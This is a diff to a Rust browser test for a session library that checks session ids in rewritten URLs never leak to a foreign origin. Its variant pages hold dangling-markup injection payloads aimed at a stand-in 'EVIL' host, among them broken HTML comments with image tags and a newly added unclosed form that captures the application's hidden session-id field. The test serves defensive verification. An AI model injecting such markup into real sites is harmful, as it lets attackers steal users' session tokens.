@@ -19,7 +19,7 @@ use axum::extract::Path;
 use axum::http::header;
 use axum::response::IntoResponse;
 use axum::routing::any;
-use fastmmap::session::{SessionStore, UrlRewriter};
+use fastmmap::session::{SessionStore, UrlRewriter, UrlStyle};
 use fastmmap::web::{Session, SessionLayer};
 use serde_json::json;
 use tower_layer::Layer;
@@ -203,6 +203,9 @@ const VARIANTS: &[(&str, &str, &str)] = &[
     ),
     ("comment-bang", HTML, r#"<!-- --!><img src='EVIL/x? -->"#),
     ("comment-abrupt", HTML, r#"<!--><img src='EVIL/x? -->"#),
+    // An unclosed form: browsers drop the application's <form> tag after it, and its
+    // fields (a hidden id field, in query style) go with this one.
+    ("nested-form", HTML, r#"<form action="EVIL/collect">"#),
     (
         "refresh",
         HTML,
@@ -271,10 +274,13 @@ fn page(name: &str, evil: SocketAddr) -> (&'static str, String) {
 
 /// The application: `/v/NAME` (a variant page, which uses the session), and the
 /// resources its links name.
-fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr) -> Router {
+fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr, style: UrlStyle) -> Router {
+    let urls = UrlRewriter::new(&format!("http://{addr}/"))
+        .unwrap()
+        .style(style);
     let store = SessionStore::builder()
         .path(path)
-        .urls(UrlRewriter::new(&format!("http://{addr}/")).unwrap())
+        .urls(urls)
         .build()
         .unwrap();
     let routes = Router::new()
@@ -296,64 +302,67 @@ fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr) -> Router {
     Router::new().fallback_service(SessionLayer::new(store).layer(routes))
 }
 
-#[test]
-fn no_session_id_reaches_another_origin_whatever_the_markup() {
-    let _serial = serial();
-    let Some(binary) = chromium() else {
-        assert!(
-            !browser_required(),
-            "FASTMMAP_REQUIRE_BROWSER=1 but chromium is not installed (apt-get install chromium)"
-        );
-        eprintln!(
-            "\nSKIPPED: the id-leak browser test needs chromium (apt-get install chromium)\n"
-        );
-        return;
-    };
-    let evil = Recorder::start();
-    let evil_addr = evil.addr;
-    let dir = temp_dir();
-    let path = Server::session_file(&dir);
-    let server = Server::start(1, dir, move |addr| app(path.clone(), addr, evil_addr));
-    let origin = format!("http://{}", server.addr);
-    let mut browser = Browser::launch(&binary);
+/// Pages whose first form is submitted too: the plain one (the session goes along) and the
+/// one whose form swallows the application's.
+const SUBMITTED: &[&str] = &["control", "nested-form"];
 
-    // The plain page: its links carry the id, to this origin, and the browser fetches them.
+/// The session id in a link of this style.
+fn id_of(link: &str, style: UrlStyle) -> Option<String> {
+    let rest = match style {
+        UrlStyle::Path => link.rsplit_once("/-/")?.1,
+        _ => link.split_once("sid=")?.1,
+    };
+    let end = rest.find(['?', '&', '#']).unwrap_or(rest.len());
+    Some(rest[..end].to_owned())
+}
+
+/// `path` with the id, in this style.
+fn with_id(path: &str, id: &str, style: UrlStyle) -> String {
+    match style {
+        UrlStyle::Path => format!("{path}/-/{id}"),
+        _ => format!("{path}?sid={id}"),
+    }
+}
+
+/// Visits every variant page of the server at `origin` (ids in URLs in `style`) with
+/// scripts on and off; returns the id and what each page's links were.
+fn visit_all(
+    browser: &mut Browser,
+    origin: &str,
+    style: UrlStyle,
+    evil: SocketAddr,
+) -> (String, Vec<String>) {
+    // The plain page: its links carry the id, to this origin.
     let id = {
-        let mut page = Page::open(&mut browser);
+        let mut page = Page::open(browser);
         page.navigate(&format!("{origin}/v/control"));
         page.wait_for("the control page", |h, _| h.ends_with("/v/control"));
         let next = page.eval("document.getElementById('next').href");
         let next = next.as_str().expect("a link").to_owned();
-        let id = next
-            .rsplit_once("/-/")
-            .map(|(_, id)| id.to_owned())
-            .unwrap_or_else(|| panic!("the link carries no id: {next}"));
-        let pixel = page.eval("document.getElementById('pixel').src");
-        assert_eq!(pixel, json!(format!("{origin}/pixel/control/-/{id}")));
-        id
+        id_of(&next, style).unwrap_or_else(|| panic!("the link carries no id: {next}"))
     };
-
     let names: Vec<String> = VARIANTS
         .iter()
         .map(|(n, _, _)| (*n).to_owned())
         .chain(STREAMED.iter().map(|n| format!("{n}{BIG}")))
         .collect();
+    let evil_origin = format!("http://{evil}/");
     let mut visited = Vec::new();
     for scripts in [true, false] {
-        let mut page = Page::open(&mut browser);
+        let mut page = Page::open(browser);
         page.call(
             "Emulation.setScriptExecutionDisabled",
             json!({ "value": !scripts }),
         );
         for name in &names {
             // The address carries the id too: the client came by a rewritten link.
-            page.navigate(&format!("{origin}/v/{name}/-/{id}"));
-            let evil_origin = format!("http://{evil_addr}/");
+            let here = format!("/v/{name}");
+            page.navigate(&format!("{origin}{}", with_id(&here, &id, style)));
             let (href, _) = page.wait_for(name, |h, _| {
                 if name == "refresh" {
                     h.starts_with(&evil_origin)
                 } else {
-                    h.contains(&format!("/v/{name}/"))
+                    h.contains(&here)
                 }
             });
             if name == "refresh" {
@@ -373,13 +382,65 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
                     let link = link.as_deref().unwrap_or("");
                     assert!(
                         link.starts_with(&format!("{origin}/"))
-                            && link.ends_with(&format!("/{name}/-/{id}")),
-                        "{name} (scripts {scripts}): the {what} link {link:?} lost the id"
+                            && id_of(link, style).as_deref() == Some(id.as_str()),
+                        "{name} ({style:?}, scripts {scripts}): the {what} link {link:?} \
+                         lost the id"
                     );
                 }
             }
-            visited.push(format!("scripts={scripts} {name}: {href} {links:?}"));
+            visited.push(format!(
+                "{style:?} scripts={scripts} {name}: {href} {links:?}"
+            ));
+            if SUBMITTED.contains(&name.as_str()) {
+                page.act("document.forms[0].requestSubmit()");
+                let (after, _) = page.wait_for("the form's answer", |h, _| !h.contains(&here));
+                if name == "control" {
+                    // The form keeps the session (a hidden field in query style).
+                    assert!(
+                        after.starts_with(&format!("{origin}/form/control"))
+                            && id_of(&after, style).as_deref() == Some(id.as_str()),
+                        "{style:?}: the form lost the id: {after}"
+                    );
+                }
+                visited.push(format!("  submitted: {after}"));
+            }
         }
+    }
+    (id, visited)
+}
+
+#[test]
+fn no_session_id_reaches_another_origin_whatever_the_markup() {
+    let _serial = serial();
+    let Some(binary) = chromium() else {
+        assert!(
+            !browser_required(),
+            "FASTMMAP_REQUIRE_BROWSER=1 but chromium is not installed (apt-get install chromium)"
+        );
+        eprintln!(
+            "\nSKIPPED: the id-leak browser test needs chromium (apt-get install chromium)\n"
+        );
+        return;
+    };
+    let evil = Recorder::start();
+    let evil_addr = evil.addr;
+    let mut browser = Browser::launch(&binary);
+    let mut ids = Vec::new();
+    let mut visited = Vec::new();
+    for style in [UrlStyle::Path, UrlStyle::Query] {
+        let dir = temp_dir();
+        let path = Server::session_file(&dir);
+        let server = Server::start(1, dir, move |addr| {
+            app(path.clone(), addr, evil_addr, style)
+        });
+        let (id, pages) = visit_all(
+            &mut browser,
+            &format!("http://{}", server.addr),
+            style,
+            evil_addr,
+        );
+        ids.push(id);
+        visited.extend(pages);
     }
     drop(browser);
     // Anything still in flight reaches the recorder within its read timeout.
@@ -393,13 +454,22 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
     for head in &heads {
         eprintln!("  {}", head.lines().next().unwrap_or(""));
     }
-    let leaks: Vec<&String> = heads.iter().filter(|h| h.contains(&id)).collect();
+    let leaks: Vec<&String> = heads
+        .iter()
+        .filter(|h| ids.iter().any(|id| h.contains(id.as_str())))
+        .collect();
     assert!(
         leaks.is_empty(),
         "the id reached the evil origin: {leaks:#?}"
     );
+    // The recorder works: the refresh page alone sends the browser there.
     assert!(
-        !heads.is_empty(),
-        "the evil server recorded nothing: the refresh page alone goes there"
+        heads.iter().any(|h| h.starts_with("GET /refreshed ")),
+        "the evil server recorded nothing"
+    );
+    // The swallowing form did go there, without the id.
+    assert!(
+        heads.iter().any(|h| h.starts_with("GET /collect?")),
+        "the nested form was not submitted to the evil server"
     );
 }
